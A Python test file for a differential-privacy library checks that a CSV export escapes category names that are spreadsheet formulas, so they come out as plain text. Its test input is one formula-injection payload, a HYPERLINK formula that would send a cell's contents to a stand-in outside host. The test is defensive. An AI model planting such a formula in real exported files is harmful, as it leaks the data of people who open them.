"""Tables of answers hold no formula, whatever a category is called, and numbers as they were."""

from __future__ import annotations

import csv
import io

from dpcurves import ADD_REMOVE, CdfQuestion, Grid, PrivacyLoss, Session
from dpcurves.data import Categories
from dpcurves_server.releases import render_csv

BAD = '=HYPERLINK("https://example.org/?"&A1)'


def test_a_category_that_is_a_formula_is_text_in_the_table() -> None:
    with Session({"x": [1.0, -2.0], "who": [BAD, "b"]}, budget=PrivacyLoss.pure(1), adjacency=ADD_REMOVE) as session:
        question = CdfQuestion("x", Grid(-3, 3, cells=3), by=Categories("who", (BAD, "b")))
        header, *rows = csv.reader(io.StringIO(render_csv(session.ask(question, PrivacyLoss.pure(1)))))
    cells = [cell for row in rows for cell in row]
    assert f"'{BAD}" in cells
    assert BAD not in (*header, *cells)
    assert {"-3.0", "b"} <= set(cells)
